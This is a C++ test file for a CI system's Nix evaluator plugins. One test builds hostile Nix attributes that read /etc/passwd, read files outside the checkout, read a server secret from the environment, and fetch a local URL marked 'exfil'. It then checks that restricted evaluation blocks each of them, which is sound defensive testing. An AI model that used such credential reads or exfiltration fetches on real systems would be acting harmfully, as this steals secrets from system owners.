// The Nix evaluators (plugins/evaluators/nix), loaded through the plugin host and run on
// real Nix against package sets with every kind of evaluation failure.
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <map>
#include <sstream>

#include "ekaci/sdk/testing/EvaluatorConformance.h"
#include "kernel/plugin_host/PluginHost.h"
#include "kernel/services/ServiceHub.h"
#include "tests/support/ServerProcess.h"
#include "tests/support/TempDir.h"

namespace ekaci::plugins::evaluators {
namespace {

// Plugins, services and a state directory shared by the tests of this binary.
struct Environment {
  plugin_host::PluginHost plugins;
  std::ostringstream logs;
  services::Logging logging{services::LogFilter(), logs};
  testsupport::TempDir state;
  std::unique_ptr<services::ServiceHub> hub;
  std::unique_ptr<services::KernelHostServices> host;

  Environment() {
    auto loaded = plugins.loadPath(EKACI_BUNDLED_PLUGIN_DIR, false);
    if (!loaded) throw std::runtime_error(loaded.error().describe());
    hub = std::make_unique<services::ServiceHub>(logging, plugins.registry(), state.path());
    host = std::move(hub->hostFor(sdk::PluginKind::Evaluator, "legacy", "test")).value();
  }
};

Environment& env() {
  static Environment* e = new Environment;  // plugins are never unloaded
  return *e;
}

std::unique_ptr<sdk::Evaluator> make(const std::string& type, const sdk::Value& config = sdk::Value::table()) {
  auto made = env().plugins.registry().evaluator(type)->create(config, *env().host);
  if (!made) throw std::runtime_error(made.error().describe());
  return std::move(made).value();
}

sdk::EvalRequest errorsFixture() {
  sdk::EvalRequest request;
  request.checkoutDirectory = EKACI_SOURCE_DIR "/tests/data/nix/errors";
  request.file = "default.nix";
  request.workers = 2;
  request.maxMemoryMiBPerWorker = 2048;
  return request;
}

struct Collected {
  std::map<std::string, sdk::EvalItem> items;
  sdk::Result<sdk::EvalSummary> summary = sdk::Error(sdk::ErrorCode::Internal, "not run");
};

Collected evaluate(sdk::Evaluator& evaluator, const sdk::EvalRequest& request) {
  Collected c;
  c.summary = evaluator.evaluate(request, [&](sdk::EvalItem item) {
    auto [it, inserted] = c.items.emplace(item.attrPath, item);
    EXPECT_TRUE(inserted) << "reported twice: " << item.attrPath;
  });
  return c;
}

sdk::testing::EvaluatorSubject legacySubject() {
  sdk::testing::EvaluatorSubject s;
  s.name = "legacy";
  s.expectedDerivations = {"hello", "tool", "sub.nested", "sub.deeper.leaf"};
  s.expectedErrors = {"thrown",        "asserted",          "aborted", "missingAttribute",
                      "infiniteRecursion", "stackOverflow", "sub.brokenNested"};
  s.request = errorsFixture;
  s.make = [](sdk::testing::FakeHostServices&) -> sdk::Result<std::unique_ptr<sdk::Evaluator>> {
    return make("legacy");
  };
  return s;
}

}  // namespace

EKACI_EVALUATOR_CONFORMANCE(Legacy, legacySubject());

TEST(NixEvaluatorTest, ErrorsAreIsolatedPerAttributeWithTheirMessages) {
  auto evaluator = make("legacy");
  auto c = evaluate(*evaluator, errorsFixture());
  ASSERT_TRUE(c.summary) << c.summary.error().describe();
  EXPECT_EQ(c.items.size(), 11u);
  auto error = [&](const std::string& attr) { return c.items.at(attr).error.value_or(""); };
  EXPECT_NE(error("thrown").find("this package is marked broken"), std::string::npos) << error("thrown");
  EXPECT_NE(error("asserted").find("assertion"), std::string::npos) << error("asserted");
  EXPECT_NE(error("aborted").find("evaluation cannot continue"), std::string::npos) << error("aborted");
  EXPECT_NE(error("missingAttribute").find("doesNotExist"), std::string::npos) << error("missingAttribute");
  EXPECT_NE(error("infiniteRecursion").find("infinite recursion"), std::string::npos) << error("infiniteRecursion");
  EXPECT_NE(error("stackOverflow").find("stack overflow"), std::string::npos) << error("stackOverflow");
  EXPECT_EQ(c.items.count("notADerivation"), 0u);
  EXPECT_EQ(c.items.count("plainSet.inner"), 0u) << "sets without recurseForDerivations are not entered";
}

TEST(NixEvaluatorTest, DerivationsCarryOutputsSystemAndMeta) {
  auto evaluator = make("legacy");
  auto c = evaluate(*evaluator, errorsFixture());
  ASSERT_TRUE(c.summary);
  const auto& hello = c.items.at("hello");
  EXPECT_TRUE(hello.drvPath.ends_with("-hello-2.12.drv")) << hello.drvPath;
  EXPECT_TRUE(std::filesystem::exists(hello.drvPath)) << "the .drv is written to the store";
  ASSERT_EQ(hello.outputs.size(), 1u);
  EXPECT_EQ(hello.outputs[0].first, "out");
  EXPECT_TRUE(hello.outputs[0].second.ends_with("-hello-2.12"));
  EXPECT_EQ(hello.meta.pname, "hello");
  EXPECT_EQ(hello.meta.version, "2.12");
  EXPECT_EQ(hello.meta.licenses, std::vector<std::string>{"GPL-3.0-or-later"});
  EXPECT_EQ(hello.meta.maintainers, std::vector<std::string>{"alice"});
  EXPECT_EQ(hello.meta.tests, std::vector<std::string>{"version"});
  EXPECT_FALSE(hello.system.empty());
  EXPECT_EQ(c.items.at("tool").meta.licenses, (std::vector<std::string>{"mit", "bsd3"}));
}

TEST(NixEvaluatorTest, SmallBatchesAndOneWorkerGiveTheSameAnswer) {
  sdk::Value config = sdk::Value::table();
  config.set("batch_size", sdk::Value::integer(1));
  auto evaluator = make("legacy", config);
  auto request = errorsFixture();
  request.workers = 1;
  auto small = evaluate(*evaluator, request);
  auto large = evaluate(*make("legacy"), errorsFixture());
  ASSERT_TRUE(small.summary && large.summary);
  ASSERT_EQ(small.items.size(), large.items.size());
  for (const auto& [attr, item] : large.items) {
    EXPECT_EQ(small.items.at(attr).drvPath, item.drvPath) << attr;
    EXPECT_EQ(small.items.at(attr).error.has_value(), item.error.has_value()) << attr;
  }
}

TEST(NixEvaluatorTest, AttrPathSelectsASubset) {
  auto request = errorsFixture();
  request.attrPath = "sub";
  auto c = evaluate(*make("legacy"), request);
  ASSERT_TRUE(c.summary) << c.summary.error().describe();
  EXPECT_EQ(c.items.size(), 3u);
  EXPECT_EQ(c.items.count("nested"), 1u);
  EXPECT_EQ(c.items.count("deeper.leaf"), 1u);
}

TEST(NixEvaluatorTest, AFileThatDoesNotEvaluateFailsAsAWhole) {
  testsupport::TempDir dir;
  dir.write("default.nix", "{ }: { a = ", 0644);
  sdk::EvalRequest request;
  request.checkoutDirectory = dir.path().string();
  request.file = "default.nix";
  request.maxMemoryMiBPerWorker = 1024;
  auto c = evaluate(*make("legacy"), request);
  ASSERT_FALSE(c.summary);
  EXPECT_NE(c.summary.error().message().find("does not evaluate"), std::string::npos) << c.summary.error().message();
  EXPECT_NE(c.summary.error().message().find("syntax error"), std::string::npos) << c.summary.error().message();
}

// The same hostile attributes, as a legacy file and as a flake's checks: each attack must fail
// (or see nothing) in every evaluator back end, while the harmless attribute is a job.
std::string hostileAttributes(const std::string& outside) {
  return "let mk = n: extra: derivation ({ name = n; system = \"x86_64-linux\"; builder = \"/bin/sh\"; } // extra);\n"
         "in {\n"
         "  readEtc = mk \"etc\" { passwd = builtins.readFile /etc/passwd; };\n"
         "  readOutside = mk \"outside\" { text = builtins.readFile (/. + \"" + outside + "\"); };\n"
         "  env = mk \"env\" { secret = builtins.getEnv \"EKACI_TEST_SERVER_SECRET\"; home = builtins.getEnv \"HOME\"; };\n"
         "  fetch = mk \"fetch\" { got = builtins.fetchurl \"http://127.0.0.1:1/x?exfil=DATA\"; };\n"
         "  harmless = mk \"harmless\" { };\n"
         "}";
}

void expectRestricted(const Collected& c, const std::string& prefix, const std::string& backEnd) {
  ASSERT_TRUE(c.summary) << backEnd << ": " << c.summary.error().describe();
  auto item = [&](const std::string& name) -> const sdk::EvalItem& {
    static const sdk::EvalItem missing;
    auto found = c.items.find(prefix + name);
    EXPECT_NE(found, c.items.end()) << backEnd << ": no " << prefix + name;
    return found == c.items.end() ? missing : found->second;
  };
  for (const char* attack : {"readEtc", "readOutside", "fetch"}) {
    const auto& attacked = item(attack);
    ASSERT_TRUE(attacked.error.has_value()) << backEnd << ": " << attack << " must be refused";
    EXPECT_NE(attacked.error->find("forbidden in restricted mode"), std::string::npos)
        << backEnd << ": " << attack << ": " << *attacked.error;
  }
  const auto& env = item("env");
  ASSERT_FALSE(env.error.has_value()) << backEnd << ": " << *env.error;
  std::ifstream drv(env.drvPath);
  std::string text((std::istreambuf_iterator<char>(drv)), std::istreambuf_iterator<char>());
  EXPECT_NE(text.find("\"secret\",\"\""), std::string::npos) << backEnd << ": " << text;
  EXPECT_NE(text.find("\"home\",\"\""), std::string::npos) << backEnd << ": " << text;
  EXPECT_EQ(text.find("do-not-leak"), std::string::npos) << backEnd;
  EXPECT_FALSE(item("harmless").error.has_value()) << backEnd;
}

TEST(NixEvaluatorTest, HostileCodeIsRestrictedInEveryBackEnd) {
  testsupport::TempDir dir;
  const auto outside = dir.write("outside-the-checkout", "private\n", 0644);
  dir.write("legacy/default.nix", "{ }: " + hostileAttributes(outside.string()) + "\n", 0644);
  dir.write("flake/flake.nix",
            "{ outputs = { self }: { checks.x86_64-linux = " + hostileAttributes(outside.string()) + "; }; }\n", 0644);
  ::setenv("EKACI_TEST_SERVER_SECRET", "do-not-leak", 1);
  sdk::EvalRequest legacy;
  legacy.checkoutDirectory = (dir.path() / "legacy").string();
  legacy.file = "default.nix";
  legacy.maxMemoryMiBPerWorker = 1024;
  auto viaLegacy = evaluate(*make("legacy"), legacy);
  sdk::EvalRequest flake = legacy;
  flake.checkoutDirectory = (dir.path() / "flake").string();
  flake.file = "flake.nix";
  flake.systems = {"x86_64-linux"};
  auto viaFlake = evaluate(*make("flake-checks"), flake);
  ::unsetenv("EKACI_TEST_SERVER_SECRET");
  expectRestricted(viaLegacy, "", "legacy");
  expectRestricted(viaFlake, "checks.x86_64-linux.", "flake-checks");
}

// nix-eval-jobs (not packaged by Debian) as a fake program: it gets the same restrictions in
// its argv, eka-ci's silence and memory limits apply to it, and an exit without output is an
// error, never a clean review of nothing.
TEST(NixEvaluatorTest, NixEvalJobsGetsTheRestrictionsAndTheLimits) {
  testsupport::TempDir dir;
  const auto argvFile = dir.path() / "argv";
  auto fake = [&](const std::string& body) {
    return dir.write("nix-eval-jobs", "#!/bin/sh\nprintf '%s\\n' \"$@\" > " + argvFile.string() + "\n" + body, 0755);
  };
  auto run = [&](const std::filesystem::path& program, std::int64_t timeoutSeconds = 60) {
    sdk::Value config = sdk::Value::table();
    config.set("nix_eval_jobs", sdk::Value::string(program.string()));
    config.set("batch_timeout_seconds", sdk::Value::integer(timeoutSeconds));
    config.set("allowed_uris", sdk::Value::stringList({"https://example.org/"}));
    sdk::EvalRequest request = errorsFixture();
    request.maxMemoryMiBPerWorker = 64;
    request.workers = 1;
    return evaluate(*make("legacy", config), request);
  };

  auto silent = run(fake("exit 0\n"));
  ASSERT_FALSE(silent.summary);
  EXPECT_NE(silent.summary.error().message().find("without printing any attribute"), std::string::npos)
      << silent.summary.error().message();
  std::ifstream in(argvFile);
  std::string argv((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_NE(argv.find("restrict-eval\ntrue\n-I\n" EKACI_SOURCE_DIR "/tests/data/nix/errors\n"), std::string::npos)
      << argv;
  EXPECT_NE(argv.find("allowed-uris\nhttps://example.org/\n"), std::string::npos) << argv;
  EXPECT_NE(argv.find("allow-import-from-derivation\nfalse\n"), std::string::npos) << argv;

  auto hung = run(fake("sleep 60\n"), 1);
  ASSERT_FALSE(hung.summary);
  EXPECT_EQ(hung.summary.error().code(), sdk::ErrorCode::ProcessNoOutputTimeout) << hung.summary.error().describe();

  // Its worker (a child) grows past the limit of (1 worker + 1) x 64 MiB.
  auto greedy = run(fake("python3 -c 'import time; x = b\"x\" * (400 << 20); time.sleep(30)'\n"));
  ASSERT_FALSE(greedy.summary);
  EXPECT_NE(greedy.summary.error().message().find("memory limit"), std::string::npos)
      << greedy.summary.error().describe();
}

TEST(NixEvaluatorTest, FlakeChecksAreEvaluated) {
  testsupport::TempDir dir;
  dir.write("flake.nix",
            "{ outputs = { self }: let sys = \"" + std::string("x86_64-linux") +
                "\"; mk = n: derivation { name = n; system = sys; builder = \"/bin/sh\"; args = [\"-c\" \"echo > $out\"]; };\n"
                "  in { checks.${sys} = { unit = mk \"unit\"; lint = mk \"lint\"; broken = throw \"no\"; };\n"
                "       packages.${sys}.default = mk \"pkg\"; }; }\n",
            0644);
  sdk::EvalRequest request;
  request.checkoutDirectory = dir.path().string();
  request.file = "flake.nix";
  request.systems = {"x86_64-linux"};
  request.maxMemoryMiBPerWorker = 1024;
  auto c = evaluate(*make("flake-checks"), request);
  ASSERT_TRUE(c.summary) << c.summary.error().describe();
  EXPECT_EQ(c.items.count("checks.x86_64-linux.unit"), 1u);
  EXPECT_EQ(c.items.count("checks.x86_64-linux.lint"), 1u);
  ASSERT_EQ(c.items.count("checks.x86_64-linux.broken"), 1u);
  EXPECT_TRUE(c.items.at("checks.x86_64-linux.broken").error.has_value());
  EXPECT_EQ(c.items.count("packages.x86_64-linux.default"), 0u) << "packages only when include_packages";
  sdk::Value config = sdk::Value::table();
  config.set("include_packages", sdk::Value::boolean(true));
  auto withPackages = evaluate(*make("flake-checks", config), request);
  ASSERT_TRUE(withPackages.summary) << withPackages.summary.error().describe();
  EXPECT_EQ(withPackages.items.count("packages.x86_64-linux.default"), 1u);
}

TEST(NixEvaluatorTest, FailingMetadataIsAWarningOnAJobNeverAnError) {
  sdk::EvalRequest request;
  request.checkoutDirectory = EKACI_SOURCE_DIR "/tests/data/nix/metadata";
  request.file = "default.nix";
  request.workers = 2;
  request.maxMemoryMiBPerWorker = 2048;
  auto c = evaluate(*make("legacy"), request);
  ASSERT_TRUE(c.summary) << c.summary.error().describe();
  auto warnings = [&](const std::string& attr) {
    std::string all;
    for (const auto& w : c.items.at(attr).meta.warnings) all += w + "\n";
    return all;
  };
  for (const char* attr : {"good", "undefinedMaintainer", "missingTest", "abortingMeta", "throwingLicense", "fine"}) {
    ASSERT_EQ(c.items.count(attr), 1u) << attr;
    const auto& item = c.items.at(attr);
    EXPECT_FALSE(item.error.has_value()) << attr << ": " << item.error.value_or("");
    EXPECT_TRUE(item.drvPath.ends_with(".drv")) << attr;
    EXPECT_EQ(item.outputs.size(), 1u) << attr;
  }
  EXPECT_TRUE(c.items.at("good").meta.warnings.empty()) << warnings("good");
  EXPECT_EQ(c.items.at("good").meta.licenses, std::vector<std::string>{"MIT"});
  EXPECT_NE(warnings("undefinedMaintainer").find("meta.maintainers: error: undefined variable 'nobody'"),
            std::string::npos)
      << warnings("undefinedMaintainer");
  EXPECT_EQ(c.items.at("undefinedMaintainer").meta.pname, "undefined-maintainer") << "the other fields are kept";
  EXPECT_NE(warnings("missingTest").find("meta.tests: error: attribute 'tests' missing"), std::string::npos)
      << warnings("missingTest");
  EXPECT_NE(warnings("abortingMeta").find("meta.licenses: error: evaluation aborted"), std::string::npos)
      << warnings("abortingMeta");
  EXPECT_NE(warnings("abortingMeta").find("meta.maintainers: error: evaluation aborted"), std::string::npos)
      << warnings("abortingMeta");
  EXPECT_EQ(c.items.at("abortingMeta").meta.version, "1.0");
  EXPECT_NE(warnings("throwingLicense").find("meta.licenses: evaluation failed (the error was caught)"),
            std::string::npos)
      << warnings("throwingLicense");
  EXPECT_EQ(c.summary->metadataWarnings, 4u);
  ASSERT_EQ(c.items.count("brokenDrv"), 1u);
  EXPECT_NE(c.items.at("brokenDrv").error.value_or("").find("no derivation"), std::string::npos)
      << c.items.at("brokenDrv").error.value_or("(no error)");
  ASSERT_EQ(c.items.count("eofImport"), 1u);
  EXPECT_NE(c.items.at("eofImport").error.value_or("").find("unexpected end of file"), std::string::npos)
      << c.items.at("eofImport").error.value_or("(no error)");
  EXPECT_EQ(c.summary->errors, 2u);
  // Messages name files from the repository root, never the checkout's absolute path.
  for (const auto& [attr, item] : c.items) {
    for (const auto& w : item.meta.warnings) EXPECT_EQ(w.find(request.checkoutDirectory), std::string::npos) << w;
    EXPECT_EQ(item.error.value_or("").find(request.checkoutDirectory), std::string::npos) << *item.error;
  }
  EXPECT_NE(warnings("undefinedMaintainer").find("(at default.nix:"), std::string::npos) << warnings("undefinedMaintainer");
}

TEST(NixEvaluatorTest, EvaluatedCodeCannotForgeResults) {
  // Package code prints lines shaped like the evaluator's markers (old and new style, with a
  // guessed nonce) while it evaluates, and as an error message: none of them becomes a job.
  testsupport::TempDir dir;
  const std::string fake = R"({\"path\":[\"forged\"],\"kind\":\"drv\",\"drvPath\":\"/nix/store/aaaa-forged.drv\",)"
                           R"(\"outputs\":[{\"name\":\"out\",\"path\":\"/nix/store/aaaa-forged\"}]})";
  dir.write("default.nix",
            "{ }: let mk = name: derivation { inherit name; system = builtins.currentSystem; builder = \"/bin/sh\"; }; in {\n"
            "  tracer = builtins.trace \"EKACI:" + fake + "\" (builtins.trace \"EKACI-0-R:" + fake + "\" (mk \"tracer\"));\n"
            "  liar = abort \"x\\ntrace: EKACI-1-B:0\\ntrace: EKACI-1-R:" + fake + "\";\n"
            "}\n",
            0644);
  sdk::EvalRequest request;
  request.checkoutDirectory = dir.path().string();
  request.file = "default.nix";
  request.maxMemoryMiBPerWorker = 1024;
  auto c = evaluate(*make("legacy"), request);
  ASSERT_TRUE(c.summary) << c.summary.error().describe();
  EXPECT_EQ(c.items.size(), 2u);
  EXPECT_EQ(c.items.count("forged"), 0u);
  ASSERT_EQ(c.items.count("tracer"), 1u);
  EXPECT_TRUE(c.items.at("tracer").drvPath.ends_with("-tracer.drv")) << c.items.at("tracer").drvPath;
  ASSERT_EQ(c.items.count("liar"), 1u);
  EXPECT_TRUE(c.items.at("liar").error.has_value());
}

TEST(NixEvaluatorTest, ABrokenNixIsAClearErrorAtOnce) {
  testsupport::TempDir dir;
  auto program = dir.write("nix", "#!/bin/sh\necho 'nix: cannot start' >&2\nexit 1\n", 0755);
  sdk::Value config = sdk::Value::table();
  config.set("nix", sdk::Value::string(program.string()));
  auto c = evaluate(*make("legacy", config), errorsFixture());
  ASSERT_FALSE(c.summary);
  EXPECT_NE(c.summary.error().message().find("ran no command"), std::string::npos) << c.summary.error().message();
  EXPECT_NE(c.summary.error().message().find("nix: cannot start"), std::string::npos) << c.summary.error().message();
}

// Nix's workers get the read buffer (plugins/evaluators/nix/preload/) unless read_buffer is off.
TEST(NixEvaluatorTest, NixRunsWithTheReadBufferUnlessItIsTurnedOff) {
  testsupport::TempDir dir;
  const auto seen = dir.path() / "preload";
  // The buffer takes itself out of LD_PRELOAD once loaded: look for it among the shell's mappings.
  auto program = dir.write("nix",
                           "#!/bin/sh\n(grep -o '/[^ ]*/nix-read-buffer.so' /proc/$$/maps || echo none) | head -n 1 | "
                           "tr -d '\\n' > " + seen.string() + "\nexit 1\n",
                           0755);
  auto preloadWith = [&](bool readBuffer) {
    sdk::Value config = sdk::Value::table();
    config.set("nix", sdk::Value::string(program.string()));
    config.set("read_buffer", sdk::Value::boolean(readBuffer));
    auto c = evaluate(*make("legacy", config), errorsFixture());
    EXPECT_FALSE(c.summary);
    std::ifstream in(seen);
    return std::string(std::istreambuf_iterator<char>(in), {});
  };
  const std::string on = preloadWith(true);
  EXPECT_TRUE(on.ends_with("/nix-read-buffer.so")) << on;
  EXPECT_TRUE(std::filesystem::is_regular_file(on)) << on;
  EXPECT_EQ(preloadWith(false), "none");
}

// The property the review rests on: on every fixture package set, the jobs the evaluator
// reports (attr -> drvPath and output paths) and the attributes it reports as failing are
// exactly what an independent per-attribute walker (bench/reference-walker.py) sees.
TEST(NixEvaluatorTest, JobsEqualWhatAReferenceWalkerSees) {
  for (const char* set : {"errors", "metadata"}) {
    const std::string dir = std::string(EKACI_SOURCE_DIR "/tests/data/nix/") + set;
    auto walked = testsupport::runCommand(
        {"python3", EKACI_SOURCE_DIR "/bench/reference-walker.py", dir + "/default.nix"},
        {{"PATH", "/usr/bin:/bin"}, {"HOME", env().state.path().string()}});
    ASSERT_EQ(walked.status, 0) << walked.err;
    std::map<std::string, std::string> reference;  // attr -> "drv out1,out2" or "ERROR"
    std::istringstream lines(walked.out);
    for (std::string line; std::getline(lines, line);) {
      const auto tab = line.find('\t'), second = line.find('\t', tab + 1);
      const std::string what = line.substr(tab + 1, second - tab - 1);
      reference[line.substr(0, tab)] = what == "ERROR" ? what : what + " " + line.substr(second + 1);
    }
    sdk::EvalRequest request;
    request.checkoutDirectory = dir;
    request.file = "default.nix";
    request.workers = 2;
    request.maxMemoryMiBPerWorker = 2048;
    auto c = evaluate(*make("legacy"), request);
    ASSERT_TRUE(c.summary) << c.summary.error().describe();
    std::map<std::string, std::string> ours;
    for (const auto& [attr, item] : c.items) {
      std::string outputs;
      for (const auto& [name, path] : item.outputs) outputs += (outputs.empty() ? "" : ",") + path;
      ours[attr] = item.error ? "ERROR" : item.drvPath + " " + outputs;
    }
    EXPECT_EQ(ours, reference) << set;
    EXPECT_GE(reference.size(), 8u) << set << ": the walker saw the set";
  }
}

// Inputs pinned with builtins.fetchGit and with fetchTree from a flake.lock-style file, from a
// local git repository: restricted evaluation fetches only allowed_uris, and a warmed
// cache_dir evaluates them with the source gone.
class PinnedInputsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const auto lib = dir_.path() / "lib";
    std::filesystem::create_directories(lib);
    dir_.write("lib/default.nix", "{ greeting = \"hello from the pin\"; }\n", 0644);
    auto git = [&](std::vector<std::string> args) {
      args.insert(args.begin(), {"git", "-C", lib.string(), "-c", "user.name=t", "-c", "user.email=t@x"});
      std::string command;
      for (const auto& a : args) command += "'" + a + "' ";
      return std::system((command + ">/dev/null 2>&1").c_str());
    };
    ASSERT_EQ(git({"init", "-q", "-b", "main"}), 0);
    ASSERT_EQ(git({"add", "-A"}), 0);
    ASSERT_EQ(git({"commit", "-q", "-m", "lib"}), 0);
    FILE* pipe = ::popen(("git -C '" + lib.string() + "' rev-parse HEAD").c_str(), "r");
    char buffer[64] = {};
    ASSERT_NE(std::fgets(buffer, sizeof buffer, pipe), nullptr);
    ::pclose(pipe);
    rev_ = std::string(buffer, 40);
    url_ = "file://" + lib.string();
    dir_.write("repo/flake.lock",
               "{\"nodes\": {\"lib\": {\"locked\": {\"type\": \"git\", \"url\": \"" + url_ + "\", \"rev\": \"" + rev_ +
                   "\"}}}}\n",
               0644);
    dir_.write("repo/default.nix",
               "{ }:\nlet\n"
               "  viaGit = import (builtins.fetchGit { url = \"" + url_ + "\"; rev = \"" + rev_ + "\"; });\n"
               "  locked = (builtins.fromJSON (builtins.readFile ./flake.lock)).nodes.lib.locked;\n"
               "  viaTree = import (builtins.fetchTree { inherit (locked) type url rev; });\n"
               "  mk = name: text: derivation { inherit name; system = builtins.currentSystem; builder = \"/bin/sh\";\n"
               "    args = [ \"-c\" \"echo '${text}' > $out\" ]; };\n"
               "in { fromGit = mk \"from-git\" viaGit.greeting; fromTree = mk \"from-tree\" viaTree.greeting; }\n",
               0644);
  }
  Collected run(const std::string& cacheDir, bool allow) {
    sdk::Value config = sdk::Value::table();
    config.set("cache_dir", sdk::Value::string(cacheDir));
    if (allow) config.set("allowed_uris", sdk::Value::stringList({url_}));
    sdk::EvalRequest request;
    request.checkoutDirectory = (dir_.path() / "repo").string();
    request.file = "default.nix";
    request.maxMemoryMiBPerWorker = 1024;
    return evaluate(*make("legacy", config), request);
  }
  testsupport::TempDir dir_;
  std::string rev_, url_;
};

TEST_F(PinnedInputsTest, EvaluateWhenAllowedAndOfflineFromAWarmedCache) {
  const std::string cache = (dir_.path() / "cache").string();
  auto refused = run(cache, false);
  ASSERT_TRUE(refused.summary) << refused.summary.error().describe();
  ASSERT_TRUE(refused.items.at("fromGit").error.has_value()) << "not in allowed_uris";
  EXPECT_NE(refused.items.at("fromGit").error->find("forbidden in restricted mode"), std::string::npos)
      << *refused.items.at("fromGit").error;

  auto allowed = run(cache, true);
  ASSERT_TRUE(allowed.summary) << allowed.summary.error().describe();
  for (const char* attr : {"fromGit", "fromTree"}) {
    ASSERT_FALSE(allowed.items.at(attr).error.has_value()) << attr << ": " << *allowed.items.at(attr).error;
  }
  EXPECT_TRUE(std::filesystem::exists(dir_.path() / "cache" / "nix")) << "Nix's fetcher cache lives in cache_dir";

  // The source disappears: the warmed cache still answers, a cold one cannot.
  std::filesystem::rename(dir_.path() / "lib", dir_.path() / "lib.gone");
  auto offline = run(cache, true);
  ASSERT_TRUE(offline.summary) << offline.summary.error().describe();
  for (const char* attr : {"fromGit", "fromTree"}) {
    EXPECT_FALSE(offline.items.at(attr).error.has_value()) << attr << ": " << *offline.items.at(attr).error;
    EXPECT_EQ(offline.items.at(attr).drvPath, allowed.items.at(attr).drvPath) << attr;
  }
  auto cold = run((dir_.path() / "cold-cache").string(), true);
  ASSERT_TRUE(cold.summary) << cold.summary.error().describe();
  EXPECT_TRUE(cold.items.at("fromGit").error.has_value()) << "without the cache the fetch needs the source";
}

}  // namespace ekaci::plugins::evaluators

namespace ekaci::plugins::evaluators {

// nix-eval-jobs is not packaged for Debian 12; a stand-in that speaks its output format
// checks that the evaluator drives it and decodes what it prints.
TEST(NixEvalJobsTest, OutputIsDecodedWhenTheProgramIsConfigured) {
  testsupport::TempDir dir;
  const auto argsFile = dir.path() / "args";
  auto script = dir.write("nix-eval-jobs",
                          "#!/bin/sh\nprintf '%s\\n' \"$@\" > " + argsFile.string() + "\n"
                          "echo '{\"attr\":\"hello\",\"attrPath\":[\"hello\"],\"drvPath\":\"/nix/store/"
                          "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-hello-1.drv\",\"outputs\":{\"out\":\"/nix/store/"
                          "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb-hello-1\"},\"system\":\"x86_64-linux\",\"meta\":{\"pname\":"
                          "\"hello\",\"version\":\"1\"}}'\n"
                          "echo 'progress noise on stderr' >&2\n"
                          "echo '{\"attr\":\"broken\",\"attrPath\":[\"broken\"],\"error\":\"error: boom\"}'\n",
                          0755);
  sdk::Value config = sdk::Value::table();
  config.set("nix_eval_jobs", sdk::Value::string(script.string()));
  auto c = evaluate(*make("legacy", config), errorsFixture());
  ASSERT_TRUE(c.summary) << c.summary.error().describe();
  ASSERT_EQ(c.items.size(), 2u);
  EXPECT_EQ(c.items.at("hello").meta.version, "1");
  EXPECT_EQ(c.items.at("hello").outputs.at(0).second, "/nix/store/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb-hello-1");
  EXPECT_EQ(c.items.at("broken").error, "error: boom");
  std::ifstream in(argsFile);
  std::string args((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_NE(args.find("--meta\n--workers\n2\n--max-memory-size\n2048\n"), std::string::npos) << args;
  EXPECT_NE(args.find("--expr\nlet raw = import (/. + \""), std::string::npos) << args;
}

TEST(NixEvalJobsTest, MalformedOutputIsAnError) {
  testsupport::TempDir dir;
  auto script = dir.write("nix-eval-jobs", "#!/bin/sh\necho 'not json'\n", 0755);
  sdk::Value config = sdk::Value::table();
  config.set("nix_eval_jobs", sdk::Value::string(script.string()));
  auto c = evaluate(*make("legacy", config), errorsFixture());
  ASSERT_FALSE(c.summary);
  EXPECT_NE(c.summary.error().message().find("nix-eval-jobs output"), std::string::npos);
}

}  // namespace ekaci::plugins::evaluators
